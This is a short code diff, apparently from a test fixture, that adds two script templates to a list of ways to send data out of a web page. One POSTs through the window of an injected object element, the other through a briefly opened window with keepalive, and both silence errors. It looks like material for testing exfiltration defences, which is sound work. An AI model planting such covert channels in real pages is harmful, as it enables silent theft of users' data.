@@ -78,6 +78,21 @@ export const wireWays: readonly WireWay[] = [
     notIn: 'Firefox',
   },
   {
+    name: 'fetch from an object that waits for its address',
+    script: (text) =>
+      `const frame = document.createElement('object'); frame.data = '/login'; document.body.append(frame);
+       void frame.contentWindow.fetch(new URL('${place}', location.href), { method: 'POST', body: ${text} }).catch(() => {})`,
+    isPlain: true,
+    notIn: 'Firefox',
+  },
+  {
+    name: 'fetch from an opened window that waits for its address',
+    script: (text) =>
+      `const view = open('/login'); void view.fetch(new URL('${place}', location.href), { method: 'POST', keepalive: true, body: ${text} }).catch(() => {}); view.close()`,
+    isPlain: true,
+    notIn: 'Firefox',
+  },
+  {
     name: 'fetch from a frame whose address leads nowhere',
     script: (text) =>
       `const frame = document.createElement('iframe'); frame.src = 'javascript:"x"'; document.body.append(frame);
